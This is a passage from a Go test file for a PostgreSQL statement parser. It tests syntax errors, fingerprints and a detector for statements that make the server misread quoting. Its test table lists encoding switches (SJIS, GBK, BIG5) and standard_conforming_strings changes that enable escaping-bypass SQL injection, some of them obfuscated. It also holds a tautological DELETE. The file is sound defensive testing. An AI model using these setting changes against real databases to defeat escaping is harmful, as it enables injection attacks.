			if !reflect.DeepEqual(texts, tt.texts) || !reflect.DeepEqual(kinds, tt.kinds) {
				t.Errorf("Parse(%q): texts %q kinds %v, want %q %v", tt.sql, texts, kinds, tt.texts, tt.kinds)
			}
		})
	}
}

func TestParseSyntaxError(t *testing.T) {
	tests := []struct {
		name string
		sql  string
		pos  int
	}{
		{name: "typo", sql: "SELEC 1", pos: 1},
		{name: "second statement", sql: "SELECT 1; DROP TABEL x", pos: 16},
		{name: "unterminated string", sql: "SELECT 'abc", pos: 8},
		{name: "unterminated comment", sql: "SELECT 1 /* /* */", pos: 10},
		{name: "incomplete", sql: "DELETE FROM", pos: 12},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Parse(tt.sql)
			var se *SyntaxError
			if !errors.As(err, &se) {
				t.Fatalf("Parse(%q) = %v, %v; want a *SyntaxError", tt.sql, got, err)
			}
			if got != nil {
				t.Errorf("Parse(%q) returned statements with an error: %v", tt.sql, got)
			}
			if se.Position != tt.pos {
				t.Errorf("Parse(%q): position %d (%v), want %d", tt.sql, se.Position, err, tt.pos)
			}
			if !strings.Contains(err.Error(), "position") {
				t.Errorf("error %q does not name the position", err)
			}
		})
	}
}

// TestFingerprint checks that Fingerprint identifies a statement's shape:
// equal across spelling and white space, different across statements.
func TestFingerprint(t *testing.T) {
	fp := func(sql string) string {
		t.Helper()
		s, err := Parse(sql)
		if err != nil || len(s) != 1 {
			t.Fatalf("Parse(%q) = %v, %v", sql, s, err)
		}
		return s[0].Fingerprint
	}
	if a, b := fp("SELECT * FROM t WHERE id = 1"), fp("select *  from T where ID=1 -- c"); a != b {
		t.Errorf("same statement, different fingerprints %q %q", a, b)
	}
	if a, b := fp("SELECT * FROM t"), fp("SELECT * FROM u"); a == b {
		t.Errorf("different tables, same fingerprint %q", a)
	}
	if a, b := fp("DELETE FROM t WHERE id = 1"), fp("SELECT * FROM t WHERE id = 1"); a == b {
		t.Errorf("different statements, same fingerprint %q", a)
	}
}

// TestFingerprintIgnoresConstants pins down what Statement.Fingerprint
// warns about: statements that differ only in constants share a
// fingerprint but not their summary.
func TestFingerprintIgnoresConstants(t *testing.T) {
	tests := []struct {
		name string
		a, b string
	}{
		{name: "tautology", a: "DELETE FROM t WHERE 1 = 1", b: "DELETE FROM t WHERE 1 = 2"},
		{name: "set_config", a: "SELECT set_config('role', 'x', false)", b: "SELECT set_config('work_mem', 'x', false)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, err := Parse(tt.a)
			if err != nil {
				t.Fatal(err)
			}
			b, err := Parse(tt.b)
			if err != nil {
				t.Fatal(err)
			}
			if a[0].Fingerprint != b[0].Fingerprint {
				t.Errorf("fingerprints differ (%s, %s): update the Fingerprint doc", a[0].Fingerprint, b[0].Fingerprint)
			}
			sa, sb := a[0], b[0]
			sa.Text, sb.Text = "", ""
			if reflect.DeepEqual(sa, sb) {
				t.Errorf("%q and %q have the same summary", tt.a, tt.b)
			}
		})
	}
}

func TestKindValid(t *testing.T) {
	for _, k := range []Kind{KindRead, KindWrite, KindDDL, KindDCL, KindUtility, KindTransaction, KindUnknown} {
		if !k.Valid() {
			t.Errorf("%q not valid", k)
		}
	}
	for _, k := range []Kind{"", "READ", "select"} {
		if k.Valid() {
			t.Errorf("%q valid", k)
		}
	}
}

// TestMisreads: statements after which the server may read text
// differently from the parser (a client encoding that hides backslashes,
// standard_conforming_strings off, or either set to what is not a
// constant), wherever they are.
func TestMisreads(t *testing.T) {
	for sql, want := range map[string]bool{
		"SET client_encoding TO 'SJIS'":                                            true,
		"SET client_encoding = sjis":                                               true,
		"SET SESSION CLIENT_ENCODING TO 'Shift_JIS'":                               true,
		"SET LOCAL client_encoding TO 'WIN950'":                                    true,
		"SET NAMES 'gb18030'":                                                      true,
		"SET client_encoding TO 6":                                                 true,
		"SELECT set_config('client_encoding', 'BIG5', false)":                      true,
		"SELECT pg_catalog.set_config('CLIENT_ENCODING', 'uhc', true)":             true,
		"SELECT set_config('client_encoding', current_user, false)":                true,
		"SELECT set_config(name, 'sjis', false) FROM settings":                     true,
		"SELECT set_config(name, 'on', false) FROM settings":                       false,
		"ALTER DATABASE orders SET client_encoding = 'johab'":                      true,
		"ALTER ROLE alice SET client_encoding TO 'windows-936'":                    true,
		"SET client_encoding TO 'UTF8'":                                            false,
		"SET NAMES 'LATIN1'":                                                       false,
		"SET client_encoding TO 'EUC_JP'":                                          false,
		"SET client_encoding TO DEFAULT":                                           false,
		"RESET client_encoding":                                                    false,
		"RESET ALL":                                                                false,
		"SHOW client_encoding":                                                     false,
		"SELECT 'SET client_encoding TO sjis'":                                     false,
		"SELECT set_config('application_name', 'sjis', false)":                     false,
		"SELECT current_setting('client_encoding')":                                false,
		"DO $$ BEGIN PERFORM set_config('client_encoding', 'sjis', false); END $$": true,
		"SET standard_conforming_strings = off":                                    true,
		"SET standard_conforming_strings TO 'F'":                                   true,
		"SET standard_conforming_strings = 0":                                      true,
		"SELECT set_config('standard_' || 'conforming_strings', 'of', false)":      true,
		"ALTER ROLE alice SET standard_conforming_strings = false":                 true,
		"SELECT set_config(name, 'utf8', false) FROM settings":                     true,
		"SET standard_conforming_strings = on":                                     false,
		"SET standard_conforming_strings TO 'Yes'":                                 false,
		"SET standard_conforming_strings TO DEFAULT":                               false,
		"SHOW standard_conforming_strings":                                         false,
		"SELECT current_setting('standard_conforming_strings')":                    false,
		"DO $$ BEGIN EXECUTE 'SET client_encoding TO gbk'; END $$":                 true,
	} {
		stmts, err := Parse(sql)
		if err != nil {
			t.Fatalf("Parse(%q): %v", sql, err)
		}
		if got := anyMisreads(stmts); got != want {
			t.Errorf("Parse(%q): Misreads %v, want %v", sql, got, want)
		}
	}
	for name, want := range map[string]bool{
		"SJIS": true, "Shift_JIS": true, "shift-jis-2004": true, "MS Kanji": true, "Windows932": true,
		"big5": true, "GBK": true, "gb18030": true, "UHC": true, "johab": true, "win949": true,
		"UTF8": false, "utf-8": false, "EUC_JP": false, "LATIN1": false, "SQL_ASCII": false, "": false,
	} {
		if got := HidesBackslash(name); got != want {
			t.Errorf("HidesBackslash(%q) = %v, want %v", name, got, want)
		}
	}
}

func anyMisreads(stmts []Statement) bool {
	for i := range stmts {
		if stmts[i].Misreads != "" || anyMisreads(stmts[i].Inner) {
			return true
		}
	}
	return false
}
